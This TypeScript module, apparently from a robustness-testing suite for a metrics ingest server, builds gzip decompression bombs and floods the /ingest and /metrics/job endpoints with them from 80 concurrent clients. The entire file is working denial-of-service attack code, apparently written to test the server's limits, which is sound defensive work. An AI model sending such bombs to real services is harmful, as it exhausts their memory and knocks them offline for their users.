import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import type { Attack } from '../../attack.ts';
import { repeated } from '../../client/wire.ts';
import { swarm } from '../../client/swarm.ts';

const SIZE = 16 * 1024 * 1024 - 64;

/** Bodies of a few kilobytes that inflate to megabytes, or that hold megabytes of nothing. */
function bombs(): Buffer[] {
  const emptyStored = Buffer.from([0, 0, 0, 0xff, 0xff]);
  const member = gzipSync('');
  return [
    gzipSync(repeated('# comment of a family that does not exist\n', SIZE)),
    gzipSync(repeated('\n', SIZE)),
    gzipSync(Buffer.concat([repeated('bomb 1\n', SIZE - 1_000), Buffer.from('last 2\n')])),
    // Far above the limit, in members of which each is below it.
    repeated(gzipSync(repeated(' ', SIZE)), 60 * 16_384),
    // Blocks of deflate and members of gzip that hold nothing, 12 MB of them.
    gzipOf(Buffer.concat([repeated(emptyStored, 12_000_000), deflateRawSync('a 1\n')]), 'a 1\n'),
    repeated(member, 12_000_000),
    // A file name in the header that does not end.
    Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]), Buffer.alloc(12_000_000, 'x')]),
    gzipSync(repeated('bomb{l="\\n\\n\\n\\n\\n\\n\\n\\n"} 1\n', SIZE)),
  ];
}

function gzipOf(deflated: Uint8Array, text: string): Buffer {
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(typeof crc32 === 'function' ? crc32(text) : 0, 0);
  trailer.writeUInt32LE(text.length, 4);
  return Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflated, trailer]);
}

let bodies: Buffer[] = [];

export const compressedBombs: Attack = {
  what: 'gzip bodies that inflate a thousandfold, and megabytes of empty gzip members and deflate blocks',
  against: 'plain',
  clients: 80,
  prepare: () => {
    bodies = bombs();
  },
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const body = bodies[client.index % bodies.length] ?? '';
      await client.call({
        method: client.index % 3 === 0 ? 'POST' : 'PUT',
        path: client.index % 5 === 0 ? '/ingest' : `/metrics/job/bomb-${client.index}`,
        headers: { 'content-encoding': 'gzip' },
        body,
      });
    }),
};
